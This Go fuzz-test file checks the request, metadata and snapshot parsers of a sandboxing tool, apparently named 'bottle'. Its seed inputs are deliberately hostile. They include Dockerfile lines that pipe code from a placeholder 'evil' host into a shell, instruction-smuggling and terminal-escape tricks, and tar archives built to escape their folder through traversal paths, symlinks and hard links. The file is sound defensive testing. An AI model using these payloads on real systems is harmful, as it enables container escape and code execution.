package state

import (
	"archive/tar"
	"bytes"
	"flag"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"unicode"
	"unicode/utf8"
)

var updateCorpus = flag.Bool("update-corpus", false, "rewrite the seed files in testdata/fuzz from the seed lists")

// requestSeeds are hand-picked, mostly hostile, request files (file id and
// bytes). They are written to testdata/fuzz/FuzzParseRequest.
func requestSeeds(t testing.TB) map[string][2]string {
	line := func(l ...string) map[string]any { return map[string]any{"dockerfile": l} }
	req := func(override map[string]any) string { return string(requestJSON(t, override)) }
	return map[string][2]string{
		"valid":                  {"req-1", req(nil)},
		"valid-all-instructions": {"req-1", req(line("RUN apt-get update", "ENV A=1", "WORKDIR /x", "USER agent", "LABEL a=b", "ARG V=1"))},
		"lowercase-run":          {"req-1", req(line("run apt-get install -y ffmpeg"))},
		"exec-form":              {"req-1", req(line(`RUN ["apt-get","install","-y","ffmpeg"]`))},
		"here-string":            {"req-1", req(line("RUN cat <<< hi"))},
		"from":                   {"req-1", req(line("FROM evil"))},
		"copy":                   {"req-1", req(line("COPY / /host"))},
		"add":                    {"req-1", req(line("ADD https://evil.example/x /x"))},
		"onbuild":                {"req-1", req(line("ONBUILD RUN curl evil | sh"))},
		"cmd":                    {"req-1", req(line(`CMD ["sh"]`))},
		"newline-from":           {"req-1", req(line("RUN true\nFROM evil"))},
		"cr-from":                {"req-1", req(line("RUN true\rFROM evil"))},
		"u2028-from":             {"req-1", req(line("RUN true\u2028FROM evil"))},
		"nel-from":               {"req-1", req(line("RUN true\u0085FROM evil"))},
		"continuation":           {"req-1", req(line(`RUN apt-get install \`, "FROM evil"))},
		"continuation-backtick":  {"req-1", req(line("RUN true `"))},
		"heredoc":                {"req-1", req(line("RUN <<EOF", "FROM evil", "EOF"))},
		"heredoc-after-herestr":  {"req-1", req(line("RUN cat <<<x <<EOF", "USER root"))},
		"heredoc-quoted":         {"req-1", req(line(`RUN cat <<'RUN x'`))},
		"no-args":                {"req-1", req(line("RUN"))},
		"empty-line":             {"req-1", req(line(""))},
		"empty-dockerfile":       {"req-1", req(line())},
		"id-mismatch":            {"req-2", req(nil)},
		"id-traversal":           {"../x", req(map[string]any{"id": "../x"})},
		"unknown-kind":           {"req-1", req(map[string]any{"kind": "root"})},
		"empty-reason":           {"req-1", req(map[string]any{"reason": ""})},
		"reason-escape":          {"req-1", req(map[string]any{"reason": "\x1b]0;pwned\x07"})},
		"bad-created-at":         {"req-1", req(map[string]any{"created_at": "yesterday"})},
		"invalid-utf8":           {"req-1", "{\"id\":\"req-1\",\"kind\":\"capability\",\"reason\":\"r\",\"dockerfile\":[\"RUN a\xffb\"]}"},
		"duplicate-keys":         {"req-1", `{"id":"req-1","kind":"capability","reason":"r","dockerfile":["RUN x"],"dockerfile":["FROM evil"]}`},
		"case-folded-keys":       {"req-1", `{"ID":"req-1","KIND":"capability","Reason":"r","DockerFile":["RUN x"]}`},
		"invalid-json":           {"req-1", `{"id":"req-1",`},
		"null":                   {"req-1", "null"},
		"empty":                  {"req-1", ""},
		"deep-nesting":           {"req-1", strings.Repeat("[", 10000)},
		"bidi-override-line":     {"req-1", req(line("RUN echo \u202etxt.exe"))},
		"bidi-isolate-line":      {"req-1", req(line("RUN echo \u2067x\u2069 && true"))},
		"zero-width-line":        {"req-1", req(line("RUN apt-get install -y ff\u200bmpeg"))},
		"bom-line":               {"req-1", req(line("\ufeffRUN true"))},
		"bidi-reason":            {"req-1", req(map[string]any{"reason": "need \u202egepmff"})},
		"label-reserved":         {"req-1", req(line("LABEL dev.bottle.identity=other-abcde"))},
		"label-reserved-quoted":  {"req-1", req(line(`LABEL a=b "DEV.bottle".managed=true`))},
		"label-reserved-escaped": {"req-1", req(line(`LABEL dev\.bottle.x=1`))},
		"label-variable-key":     {"req-1", req(line("LABEL ${K}=1"))},
		"env-reserved-old-form":  {"req-1", req(line("ENV dev.bottle.x 1"))},
		"arg-reserved":           {"req-1", req(line("ARG dev.bottle.x=1"))},
	}
}

func FuzzParseRequest(f *testing.F) {
	// Seeds too bulky for the corpus files (those are in testdata).
	pad := string(requestJSON(f, nil))
	f.Add("req-1", []byte(pad+strings.Repeat(" ", MaxRequestSize-len(pad))))
	f.Add("req-1", []byte(pad+strings.Repeat(" ", MaxRequestSize-len(pad)+1)))
	many := make([]string, maxLines+1)
	for i := range many {
		many[i] = "RUN true"
	}
	f.Add("req-1", requestJSON(f, map[string]any{"dockerfile": many}))
	f.Add("req-1", requestJSON(f, map[string]any{"dockerfile": many[:maxLines]}))

	f.Fuzz(func(t *testing.T, id string, data []byte) {
		r, err := ParseRequest(id, data)
		if err != nil {
			if r != nil {
				t.Fatalf("error %v with a request", err)
			}
			return
		}
		checkAcceptedRequest(t, id, r)
	})
}

// heredocWord is BuildKit's heredoc pattern, applied to each shell word.
var heredocWord = regexp.MustCompile(`^\d*<<-?[^<]+$`)

var allowedKeywords = []string{"RUN", "ENV", "WORKDIR", "USER", "LABEL", "ARG"}

// checkAcceptedRequest restates, independently of request.go, what an
// accepted request guarantees.
func checkAcceptedRequest(t *testing.T, id string, r *Request) {
	t.Helper()
	if r.ID != id || r.Kind != RequestKindCapa {
		t.Errorf("accepted id %q kind %q for file id %q", r.ID, r.Kind, id)
	}
	if strings.TrimSpace(r.Reason) == "" || len(r.Reason) > maxReasonLen {
		t.Errorf("accepted reason %q", r.Reason)
	}
	for _, c := range r.Reason {
		if c != '\t' && (unicode.IsControl(c) || c == '\u2028' || c == '\u2029') {
			t.Errorf("accepted reason with control character %U", c)
		}
		if unicode.Is(unicode.Cf, c) {
			t.Errorf("accepted reason with format character %U", c)
		}
	}
	if len(r.Dockerfile) == 0 || len(r.Dockerfile) > maxLines {
		t.Errorf("accepted %d lines", len(r.Dockerfile))
	}
	for i, l := range r.Dockerfile {
		if len(l) > maxLineLen || !utf8.ValidString(l) {
			t.Errorf("line %d: accepted %d bytes (valid UTF-8: %v)", i, len(l), utf8.ValidString(l))
		}
		for _, c := range l {
			if unicode.IsControl(c) || c == '\u2028' || c == '\u2029' || c == utf8.RuneError {
				t.Errorf("line %d: accepted control character %U in %q", i, c, l)
			}
			if unicode.Is(unicode.Cf, c) {
				t.Errorf("line %d: accepted format character %U in %q", i, c, l)
			}
		}
		fields := strings.Fields(l)
		if len(fields) < 2 {
			t.Errorf("line %d: accepted %q without arguments", i, l)
			continue
		}
		kw := strings.ToUpper(fields[0])
		ok := false
		for _, a := range allowedKeywords {
			ok = ok || kw == a
		}
		// strings.Fields also splits on Unicode spaces, which Docker does
		// not: the keyword must be followed by an ASCII space.
		if !ok || !strings.HasPrefix(strings.TrimLeftFunc(l, unicode.IsSpace), fields[0]+" ") {
			t.Errorf("line %d: accepted instruction %q in %q", i, fields[0], l)
		}
		// The first key of a LABEL, ENV or ARG line, unquoted, is never
		// in bottle's own label namespace.
		if kw == "LABEL" || kw == "ENV" || kw == "ARG" {
			key, _, _ := strings.Cut(strings.NewReplacer(`"`, "", "'", "", `\`, "").Replace(fields[1]), "=")
			if k := strings.ToLower(key); k == "dev.bottle" || strings.HasPrefix(k, "dev.bottle.") {
				t.Errorf("line %d: accepted reserved key %q", i, l)
			}
		}
		last := fields[len(fields)-1]
		if strings.HasSuffix(last, `\`) || strings.HasSuffix(last, "`") {
			t.Errorf("line %d: accepted a continuation: %q", i, l)
		}
		for _, w := range fields {
			if heredocWord.MatchString(w) {
				t.Errorf("line %d: accepted heredoc word %q", i, w)
			}
		}
	}
}

// metadataSeeds are metadata.json files for FuzzReadMetadata.
var metadataSeeds = map[string]string{
	"full": `{"format_version":1,"identity":"reviewer-k3x9a","bottle":"reviewer","agent":"claude",` +
		`"config":"/p/bottle.hcl","cwd":"/p","copy_cwd":true,"backend":"smolmachines",` +
		`"started_at":"2025-03-04T05:06:07Z","image":"bottle/reviewer-k3x9a","base_image":"node:22",` +
		`"session_id":"0b9c6a3e-6a4e-4a57-9d0e-2f3f0f4b8f11","launches":2,"vars":{"task":"x"},` +
		`"spec":{"command":["claude"],"env":{"A":"(sensitive)"},"workdir":"/workspace","cpus":1.5,"memory_bytes":4294967296}}`,
	"no-backend":        `{"format_version":1,"bottle":"reviewer"}`,
	"no-version":        `{"bottle":"reviewer"}`,
	"newer":             `{"format_version":2}`,
	"negative-version":  `{"format_version":-1}`,
	"huge-version":      `{"format_version":1e400}`,
	"identity-mismatch": `{"format_version":1,"identity":"other-zzzzz"}`,
	"corrupt":           `{"format_version":1,`,
	"null":              `null`,
	"array":             `[]`,
	"bad-time":          `{"started_at":"not a time"}`,
	"far-time":          `{"started_at":"9999-12-31T23:59:59-23:59"}`,
	"spec-null":         `{"spec":null,"vars":null}`,
	"wrong-types":       `{"copy_cwd":"yes","launches":"2","spec":[]}`,
	"bom":               "\xef\xbb\xbf{}",
	"deep-nesting":      `{"spec":` + strings.Repeat(`{"x":`, 5000),
}

func FuzzReadMetadata(f *testing.F) {
	f.Add(`{"format_version":1,"bottle":"` + strings.Repeat("b", maxMetadataSize) + `"}`)
	f.Fuzz(func(t *testing.T, data string) {
		_, d := newDir(t)
		if err := os.WriteFile(d.MetadataPath(), []byte(data), 0o600); err != nil {
			t.Fatal(err)
		}
		m, err := d.ReadMetadata()
		if err != nil {
			if m != nil {
				t.Fatalf("error %v with metadata", err)
			}
			if !strings.Contains(err.Error(), d.MetadataPath()) {
				t.Errorf("error %q does not name the file", err)
			}
			return
		}
		if len(data) > maxMetadataSize {
			t.Errorf("accepted %d bytes", len(data))
		}
		if m.Identity != testIdentity || m.FormatVersion > MetadataVersion || m.BackendName() == "" {
			t.Errorf("accepted %+v", m)
		}
		// What was read can be written back and read again, unless it
		// does not encode (a time past year 9999, say).
		if err := d.WriteMetadata(m); err != nil {
			return
		}
		m2, err := d.ReadMetadata()
		if err != nil {
			t.Fatalf("re-read of written metadata: %v", err)
		}
		if m2.Backend != m.Backend || m2.SessionID != m.SessionID || !m2.StartedAt.Equal(m.StartedAt) {
			t.Errorf("round trip changed %+v into %+v", m, m2)
		}
	})
}

// snapshotSeeds are tar streams for FuzzExtractSnapshot.
func snapshotSeeds(t testing.TB) map[string][]byte {
	gnuLong := func() []byte {
		var buf bytes.Buffer
		tw := tar.NewWriter(&buf)
		name := strings.Repeat("../", 60) + "x"
		_ = tw.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Size: 1, Mode: 0o644, Format: tar.FormatGNU})
		_, _ = tw.Write([]byte("x"))
		_ = tw.Close()
		return buf.Bytes()
	}
	return map[string][]byte{
		"empty": {},
		"round-trip": makeTar(t, dirEntry("projects/", 0o750), fileEntry("projects/a.jsonl", "{}\n", 0o640),
			fileEntry("bin/tool", "#!/bin/sh\n", 0o755), linkEntry("rel", "projects/a.jsonl"), linkEntry("abs", "/etc/passwd")),
		"escaping-names": makeTar(t, fileEntry("../x", "x", 0o644), fileEntry("../../../../x", "x", 0o644),
			fileEntry("a/../../x", "x", 0o644), fileEntry("/abs/x", "x", 0o644), dirEntry("../d/", 0o777), linkEntry("../l", "/")),
		"link-then-file":          makeTar(t, linkEntry("evil", "/tmp"), fileEntry("evil/x", "pwned", 0o644)),
		"relative-link-then-file": makeTar(t, linkEntry("evil", "../../../.."), fileEntry("evil/x", "pwned", 0o644)),
		"link-then-dir":           makeTar(t, linkEntry("evil", ".."), dirEntry("evil/", 0o777), dirEntry("evil/sub/", 0o777)),
		"link-chain":              makeTar(t, linkEntry("a", "b"), linkEntry("b", ".."), fileEntry("a/x", "pwned", 0o644)),
		"file-over-link":          makeTar(t, linkEntry("evil", "../queue/x"), fileEntry("evil", "pwned", 0o644)),
		"specials": makeTar(t, tarEntry{name: "h", typ: tar.TypeLink, linkname: "/etc/passwd"},
			tarEntry{name: "c", typ: tar.TypeChar, mode: 0o666}, tarEntry{name: "b", typ: tar.TypeBlock, mode: 0o666},
			tarEntry{name: "p", typ: tar.TypeFifo, mode: 0o666}, fileEntry("suid", "x", 0o4777), dirEntry("sticky/", 0o1777)),
		"gnu-long-name": gnuLong(),
		"hard-links": makeTar(t, fileEntry("a", "x", 0o644), tarEntry{name: "b", typ: tar.TypeLink, linkname: "a"},
			tarEntry{name: "d/c", typ: tar.TypeLink, linkname: "./a"}, tarEntry{name: "early", typ: tar.TypeLink, linkname: "later"},
			fileEntry("later", "l", 0o644), tarEntry{name: "up", typ: tar.TypeLink, linkname: "../../queue/x"},
			linkEntry("sym", "a"), tarEntry{name: "to-sym", typ: tar.TypeLink, linkname: "sym"}),
		"hard-link-then-write": makeTar(t, fileEntry("a", "x", 0o644), tarEntry{name: "b", typ: tar.TypeLink, linkname: "a"},
			fileEntry("b", "overwritten", 0o644)),
		"truncated": makeTar(t, fileEntry("a", strings.Repeat("x", 1000), 0o644))[:700],
	}
}

// FuzzReadMetadata and FuzzExtractSnapshot are bound by fsync and temp
// dirs; on a busy disk run them with TMPDIR on a tmpfs, e.g.
// TMPDIR=/dev/shm go test -run '^$' -fuzz '^FuzzExtractSnapshot$' -fuzztime 30s

// fuzzLimits are small, so that the fuzzer can reach them.
var fuzzLimits = Limits{MaxBytes: 64 << 10, MaxEntries: 16}

func FuzzExtractSnapshot(f *testing.F) {
	var many []tarEntry
	for i := range fuzzLimits.MaxEntries + 1 {
		many = append(many, dirEntry(fmt.Sprintf("d%d/", i), 0o755))
	}
	f.Add(makeTar(f, many...))
	f.Add(makeTar(f, fileEntry("big", strings.Repeat("x", int(fuzzLimits.MaxBytes)+1), 0o644)))
	lim := fuzzLimits
	f.Fuzz(func(t *testing.T, data []byte) {
		s := newSnapshotSetup(t)
		// A previous snapshot that a failed extraction must leave alone
		// (written directly: ExtractSnapshot's fsyncs would halve the rate).
		if err := os.Mkdir(s.d.Join(TranscriptDir), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(s.d.Join(TranscriptDir, "previous"), []byte("keep"), 0o600); err != nil {
			t.Fatal(err)
		}
		err := s.extract(t, data, lim)
		s.checkContained(t, TranscriptDir)
		if err != nil {
			if got, _ := os.ReadFile(s.d.Join(TranscriptDir, "previous")); string(got) != "keep" {
				t.Errorf("failed extraction (%v) lost the previous snapshot", err)
			}
			return
		}
		var total int64
		// Every hard link of an extracted file is inside the snapshot:
		// each inode's link count equals the paths that reach it.
		links := map[uint64]int{}
		nlinks := map[uint64]uint64{}
		_ = filepath.WalkDir(s.d.Join(TranscriptDir), func(p string, e fs.DirEntry, err error) error {
			if err != nil {
				t.Errorf("walk %s: %v", p, err)
				return nil
			}
			fi, err := e.Info()
			if err != nil {
				t.Errorf("stat %s: %v", p, err)
				return nil
			}
			switch mode := fi.Mode(); {
			case mode&(fs.ModeSetuid|fs.ModeSetgid|fs.ModeSticky) != 0:
				t.Errorf("%s has mode %v", p, mode)
			case mode.IsRegular():
				st, ok := fi.Sys().(*syscall.Stat_t)
				if !ok {
					t.Fatalf("%s: no stat", p)
				}
				if links[st.Ino] == 0 {
					total += fi.Size()
				}
				links[st.Ino]++
				nlinks[st.Ino] = uint64(st.Nlink)
			case mode.IsDir(), mode&fs.ModeSymlink != 0:
			default:
				t.Errorf("%s has mode %v", p, mode)
			}
			return nil
		})
		for ino, n := range links {
			if uint64(n) != nlinks[ino] {
				t.Errorf("inode %d has %d links, %d of them in the snapshot", ino, nlinks[ino], n)
			}
		}
		if total > lim.MaxBytes {
			t.Errorf("extracted %d bytes, limit %d", total, lim.MaxBytes)
		}
	})
}

// TestWriteFuzzCorpus writes the seed lists above into testdata/fuzz when
// run with -update-corpus; otherwise it checks that every seed file is there.
func TestWriteFuzzCorpus(t *testing.T) {
	files := map[string]string{}
	for name, s := range requestSeeds(t) {
		files["FuzzParseRequest/seed-"+name] = corpusFile(t, s[0], []byte(s[1]))
	}
	for name, s := range metadataSeeds {
		files["FuzzReadMetadata/seed-"+name] = corpusFile(t, s)
	}
	for name, s := range snapshotSeeds(t) {
		files["FuzzExtractSnapshot/seed-"+name] = corpusFile(t, s)
	}
	for name, content := range files {
		p := filepath.Join("testdata", "fuzz", filepath.FromSlash(name))
		if *updateCorpus {
			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		got, err := os.ReadFile(p)
		if err != nil || string(got) != content {
			t.Errorf("%s is missing or stale (%v); run go test -run TestWriteFuzzCorpus -update-corpus", p, err)
		}
	}
}

// corpusFile encodes values in the "go test fuzz v1" format.
func corpusFile(t *testing.T, values ...any) string {
	var b strings.Builder
	b.WriteString("go test fuzz v1\n")
	for _, v := range values {
		switch v := v.(type) {
		case string:
			fmt.Fprintf(&b, "string(%s)\n", strconv.Quote(v))
		case []byte:
			fmt.Fprintf(&b, "[]byte(%s)\n", strconv.Quote(string(v)))
		default:
			t.Fatalf("corpusFile: %T", v)
		}
	}
	return b.String()
}
